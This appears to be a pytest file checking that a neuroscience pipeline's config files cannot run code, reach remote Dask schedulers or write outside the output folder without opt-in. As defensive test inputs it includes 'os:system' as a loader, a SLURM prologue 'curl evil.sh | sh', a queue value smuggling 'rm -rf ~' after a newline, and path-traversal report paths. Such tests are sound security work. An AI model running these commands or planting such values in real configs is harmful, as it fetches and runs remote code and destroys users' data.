"""Issue 13, items 1-3: a config file runs no code, reaches no remote scheduler and writes
nowhere outside its output folder unless the user says so (``--allow-code``,
``NEUROENC_ALLOW_CODE=1``, the command line)."""
from __future__ import annotations

import logging
import shutil
import subprocess
import textwrap
from pathlib import Path

import pytest

from neuroenc.cli import main as cli_main
from neuroenc.pipeline import ConfigError, config_from_dict, load_config, run_pipeline
from neuroenc.pipeline.loaders import check_loader, get_loader, load_dataset
from neuroenc.pipeline.trust import cache_dir, check_trust, code_allowed, report_path


@pytest.fixture(autouse=True)
def _no_opt_in(monkeypatch):
    monkeypatch.delenv("NEUROENC_ALLOW_CODE", raising=False)


def _yaml(tmp_path: Path, text: str, name: str = "shared.yaml") -> Path:
    path = tmp_path / name
    path.write_text(textwrap.dedent(text), encoding="utf-8")
    return path


# ----------------------------------------------------------------------------- item 1: loaders
def test_config_cannot_run_a_function_as_loader(tmp_path, capsys):
    marker = tmp_path / "owned"
    path = _yaml(tmp_path, f"""
        dataset:
          loader: "os:system"
          args: {{command: "touch {marker}"}}
        output: {{dir: {tmp_path / 'out'}}}
    """)
    with pytest.raises(ConfigError, match=(
            r"dataset.loader in '.*shared.yaml' is 'os:system', a Python function named by the config: "
            r"loading it runs code of the config's choosing\. Use a registered loader \(\['alice', .*\]\) "
            r"or one a package declares in the entry-point group 'neuroenc.loaders'; or, if you trust "
            r"this config, pass --allow-code")):
        run_pipeline(path, verbose=False)
    assert cli_main(["-q", "run", str(path)]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "--allow-code" in err and "NEUROENC_ALLOW_CODE=1" in err and "allow_code" not in err
    assert not marker.exists() and not (tmp_path / "out").exists()


def test_opt_in_allows_a_function_and_logs_it(monkeypatch, caplog):
    with pytest.raises(ConfigError, match="a Python function named by the config"):
        get_loader("neuroenc.datasets.alice:load_alice")
    with caplog.at_level(logging.WARNING, logger="neuroenc"):
        fn = get_loader("neuroenc.datasets.alice:load_alice", allow_code=True)
    from neuroenc.datasets import load_alice

    assert fn is load_alice
    assert "importing and running the data-set loader 'neuroenc.datasets.alice:load_alice'" in caplog.text
    assert not code_allowed()
    monkeypatch.setenv("NEUROENC_ALLOW_CODE", "1")
    assert code_allowed() and check_loader("neuroenc.datasets.alice:load_alice") == "code"
    assert get_loader("alice") is load_alice  # registered names need nothing


def test_loader_declared_by_an_entry_point(tmp_path, monkeypatch, data_dir):
    """A package declares a loader in the entry-point group 'neuroenc.loaders': no opt-in."""
    (tmp_path / "mylab_loaders.py").write_text(textwrap.dedent("""
        from neuroenc.datasets import load_alice

        def load_mylab(**kwargs):
            dataset = load_alice(**kwargs)
            dataset.name = "mylab"
            return dataset
    """))
    info = tmp_path / "mylab-0.1.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: mylab\nVersion: 0.1\n")
    (info / "entry_points.txt").write_text("[neuroenc.loaders]\nmylab = mylab_loaders:load_mylab\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    assert check_loader("mylab") == "entry point"
    config = config_from_dict({"dataset": {"loader": "mylab", "subjects": ["s18"],
                                           "args": {"data_dir": str(data_dir), "download": False}}})
    assert load_dataset(config.dataset).name == "mylab"
    with pytest.raises(ConfigError, match=r"Unknown data-set loader 'mylabb'. Loaders are \[.*'mylab'"):
        get_loader("mylabb")


SLURM = {"cores": 4, "memory": "8GB", "jobs": 1}


def test_slurm_shell_code_needs_the_opt_in_from_a_config_file(tmp_path, caplog):
    pytest.importorskip("dask_jobqueue")
    path = _yaml(tmp_path, """
        dataset: {loader: alice}
        executor:
          kind: slurm
          slurm: {cores: 4, memory: 8GB, jobs: 1, job_script_prologue: ["curl evil.sh | sh"]}
    """)
    with pytest.raises(ConfigError, match=(
            r"executor.slurm.job_script_prologue in '.*shared.yaml' is shell code that every SLURM job "
            r"would run \(\['curl evil.sh \| sh'\]\)\. A config file cannot run code unless you opt in")):
        check_trust(load_config(path))
    with pytest.raises(ConfigError, match="is shell code"):
        run_pipeline(path, verbose=False)  # before anything is loaded or submitted
    # the same value given on the command line (--set) is the user's own
    check_trust(load_config(path, overrides={"executor.slurm.job_script_prologue": ["module load cuda"]}))
    config = load_config(path)
    config.allow_code = True
    with caplog.at_level(logging.WARNING, logger="neuroenc"):
        check_trust(config)
    assert "executor.slurm.job_script_prologue from" in caplog.text and "curl evil.sh | sh" in caplog.text
    # a value that would end its #SBATCH line and start a command
    bad = _yaml(tmp_path, """
        dataset: {loader: alice}
        executor: {kind: slurm, slurm: {cores: 4, memory: 8GB, jobs: 1, queue: "gpu\\nrm -rf ~"}}
    """, "bad.yaml")
    with pytest.raises(ConfigError, match=r"executor.slurm.queue in '.*bad.yaml' is 'gpu\\nrm -rf ~': its "
                                          r"'\\n' would end the job script's line"):
        check_trust(load_config(bad))


def test_slurm_prologue_is_printed_before_submitting(caplog):
    pytest.importorskip("dask_jobqueue")
    from neuroenc.pipeline.dask_cluster import slurm_cluster

    with caplog.at_level(logging.INFO, logger="neuroenc"):
        cluster = slurm_cluster({**SLURM, "job_script_prologue": ["module load cuda"],
                                 "scheduler_options": {"host": "127.0.0.1"}}, scale=False)
        cluster.close()
    assert ("every SLURM job runs this shell code from executor.slurm: job_script_prologue: "
            "['module load cuda']") in caplog.text
    assert "SLURM job script:\n#!/usr/bin/env bash" in caplog.text and "module load cuda\n" in caplog.text


# ----------------------------------------------------------------------------- item 2: Dask
@pytest.mark.parametrize("executor", [
    "{kind: 'dask:tcp://10.0.0.5:8786'}",
    "{kind: dask, address: 'tls://scheduler.lab.org:8786'}",
])
def test_config_file_cannot_name_a_remote_scheduler(tmp_path, executor, capsys):
    path = _yaml(tmp_path, f"dataset: {{loader: alice}}\nexecutor: {executor}\n")
    with pytest.raises(ConfigError, match=(
            r"in '.*shared.yaml' names the Dask scheduler '(tcp://10.0.0.5|tls://scheduler.lab.org):8786' on "
            r"another machine\. A Dask client runs what its scheduler sends .* Give the address on the "
            r"command line instead \(neuroenc run CONFIG --executor dask:")):
        run_pipeline(path, verbose=False)  # refused before any connection is tried
    assert cli_main(["-q", "run", str(path)]) == 1
    assert "--allow-code" in capsys.readouterr().err
    # from the command line, or with the opt-in, the address is taken
    check_trust(load_config(path, overrides={"executor.kind": "dask:tcp://10.0.0.5:8786", "executor.address": None}))
    config = load_config(path)
    config.allow_code = True
    check_trust(config)


def test_loopback_scheduler_from_a_config_file_is_fine(tmp_path):
    for address in ("tcp://127.0.0.1:8786", "tcp://localhost:8786", "tcp://[::1]:8786"):
        check_trust(load_config(_yaml(tmp_path, f"dataset: {{loader: alice}}\nexecutor: {{kind: 'dask:{address}'}}\n")))


def test_plain_tcp_to_another_machine_warns(caplog):
    from neuroenc.pipeline.dask_cluster import warn_if_exposed

    with caplog.at_level(logging.WARNING, logger="neuroenc"):
        warn_if_exposed("tcp://127.0.0.1:8786")
        warn_if_exposed("tls://10.0.0.5:8786")
        assert caplog.text == ""
        warn_if_exposed("tcp://10.0.0.5:8786")
    assert ("the Dask scheduler tcp://10.0.0.5:8786 is reached over plain tcp:// on another machine: "
            "unencrypted and unauthenticated") in caplog.text and "tls://" in caplog.text


def test_security_section_maps_to_dask_security(tmp_path):
    from distributed.security import Security

    from neuroenc.pipeline.dask_cluster import make_security

    certs = tmp_path / "certs"
    certs.mkdir()
    for name in ("ca.pem", "client.pem", "client.key"):
        (certs / name).write_text("PEM")
    path = _yaml(tmp_path, """
        dataset: {loader: alice}
        executor:
          kind: dask
          address: tls://127.0.0.1:8786
          security: {tls_ca_file: certs/ca.pem, tls_client_cert: certs/client.pem,
                     tls_client_key: certs/client.key}
    """)
    config = load_config(path)
    sec = make_security(config.executor.security, config.executor.address, resolve=config.resolve)
    assert isinstance(sec, Security)
    assert (sec.tls_ca_file, sec.tls_client_cert, sec.tls_client_key) == (
        str(certs / "ca.pem"), str(certs / "client.pem"), str(certs / "client.key"))
    assert sec.require_encryption is True
    assert make_security({}, "tcp://127.0.0.1:1") is None
    sec = make_security({"tls_ca_file": str(certs / "ca.pem"), "require_encryption": False}, "tls://h:1")
    assert sec.require_encryption is False
    with pytest.raises(ConfigError, match=r"unknown option executor.security.tls_ca; did you mean "
                                          r"executor.security.tls_ca_file\?"):
        make_security({"tls_ca": "x"}, "tls://h:1")
    with pytest.raises(ConfigError, match=r"certificates need a tls:// address"):
        make_security({"tls_ca_file": str(certs / "ca.pem")}, "tcp://10.0.0.5:8786")
    with pytest.raises(ConfigError, match=r"executor.security.tls_client_cert: certificate file not found: "
                                          r"'.*missing.pem'"):
        make_security({"tls_client_cert": str(certs / "missing.pem")}, "tls://h:1")
    with pytest.raises(ConfigError, match=r"executor.security applies to a dask: tls:// scheduler"):
        from neuroenc.pipeline.distributed import run_distributed

        run_distributed(config_from_dict({"dataset": {"loader": "alice"}, "executor": {
            "kind": "local:1", "security": {"tls_ca_file": "x"}}}), verbose=False)


def _certificates(folder: Path) -> dict[str, str]:
    """A certificate authority and one certificate for 127.0.0.1 it signed (openssl)."""
    def run(*args):
        subprocess.run(["openssl", *args], cwd=folder, check=True, capture_output=True)

    (folder / "san.ext").write_text("subjectAltName=IP:127.0.0.1\n")
    run("req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", "ca.key", "-out", "ca.pem",
        "-days", "1", "-subj", "/CN=neuroenc-test-ca")
    run("req", "-newkey", "rsa:2048", "-nodes", "-keyout", "node.key", "-out", "node.csr",
        "-subj", "/CN=127.0.0.1")
    run("x509", "-req", "-in", "node.csr", "-CA", "ca.pem", "-CAkey", "ca.key", "-CAcreateserial",
        "-out", "node.pem", "-days", "1", "-extfile", "san.ext")
    return {"ca": str(folder / "ca.pem"), "cert": str(folder / "node.pem"), "key": str(folder / "node.key")}


def test_tls_scheduler_on_loopback(tmp_path):
    """A real tls:// scheduler on 127.0.0.1: executor.security's certificates reach it."""
    if shutil.which("openssl") is None:
        pytest.skip("needs the openssl command to make certificates")
    from distributed import LocalCluster
    from distributed.security import Security

    from neuroenc.pipeline.config import ExecutorConfig
    from neuroenc.pipeline.dask_cluster import connect

    c = _certificates(tmp_path)
    server = Security(tls_ca_file=c["ca"], tls_scheduler_cert=c["cert"], tls_scheduler_key=c["key"],
                      tls_worker_cert=c["cert"], tls_worker_key=c["key"], tls_client_cert=c["cert"],
                      tls_client_key=c["key"], require_encryption=True)
    with LocalCluster(n_workers=1, threads_per_worker=1, processes=False, protocol="tls://",
                      host="127.0.0.1", security=server, dashboard_address=None) as cluster:
        address = cluster.scheduler_address
        assert address.startswith("tls://127.0.0.1:")
        executor = ExecutorConfig(kind=f"dask:{address}", security={
            "tls_ca_file": c["ca"], "tls_client_cert": c["cert"], "tls_client_key": c["key"]})
        with connect(executor, timeout=20) as client:
            assert client.submit(sum, [1, 2, 3]).result(timeout=20) == 6


# ----------------------------------------------------------------------------- item 3: outputs
@pytest.mark.parametrize("report, match", [
    ("../x.html", r"output.report in '.*shared.yaml' is '../x.html', which leaves the output folder"),
    ("sub/../../x.html", r"which leaves the output folder"),
    ("/tmp/x.html", r"output.report in '.*shared.yaml' is the absolute path '/tmp/x.html': a config file "
                    r"writes only inside output.dir"),
])
def test_config_file_report_stays_in_the_output_folder(tmp_path, report, match, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    path = _yaml(tmp_path, f"dataset: {{loader: alice}}\noutput: {{dir: out, report: '{report}'}}\n")
    with pytest.raises(ConfigError, match=match):
        run_pipeline(path, verbose=False)
    assert cli_main(["-q", "run", str(path)]) == 1
    assert "--set output.report=" in capsys.readouterr().err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["shared.yaml"]  # nothing written


def test_output_paths_inside_or_from_the_command_line(tmp_path):
    path = _yaml(tmp_path, "dataset: {loader: alice}\noutput: {dir: out, report: maps/report.html}\n")
    config = load_config(path)
    assert report_path(config) == Path("out") / "maps" / "report.html"
    assert cache_dir(config) == Path("out") / "cache"
    # absolute paths given on the command line (--set, --out) are the user's own
    given = load_config(path, overrides={"output.report": str(tmp_path / "elsewhere.html"),
                                         "output.cache_dir": str(tmp_path / "shared-cache")})
    assert report_path(given) == tmp_path / "elsewhere.html"
    assert cache_dir(given) == tmp_path / "shared-cache"
    # from the file, the cache stays below the config's folder
    assert cache_dir(load_config(_yaml(tmp_path, "dataset: {loader: alice}\noutput: {cache_dir: fc}\n",
                                       "c.yaml"))) == tmp_path / "fc"
    for value in ("../fc", "/tmp/fc"):
        bad = load_config(_yaml(tmp_path, f"dataset: {{loader: alice}}\noutput: {{cache_dir: '{value}'}}\n",
                                "bad.yaml"))
        with pytest.raises(ConfigError, match=rf"output.cache_dir in '.*bad.yaml' is '{value}', outside the "
                                              r"config file's folder"):
            check_trust(bad)
    # a relative path from the command line still stays inside output.dir
    with pytest.raises(ConfigError, match="leaves the output folder"):
        report_path(load_config(path, overrides={"output.report": "../x.html"}))
